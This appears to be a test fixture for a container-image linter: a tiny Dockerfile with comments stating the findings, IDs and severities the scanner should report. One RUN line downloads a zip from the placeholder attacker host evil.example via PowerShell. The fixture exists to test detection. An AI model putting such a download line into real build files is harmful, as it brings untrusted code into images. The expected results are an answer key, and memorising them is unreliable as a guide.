FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
SHELL ["pwsh", "-Command"]
RUN Invoke-WebRequest -Uri https://evil.example/w.zip -OutFile w.zip
USER app
# expect: code 2 medium "SHELL makes RUN use pwsh -Command"
# expect: download 3 high "pwsh a RUN script fetches https://evil.example/w.zip"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR705-5bc591532a VR301-9a80b6c54b VR501-e064bac1a6
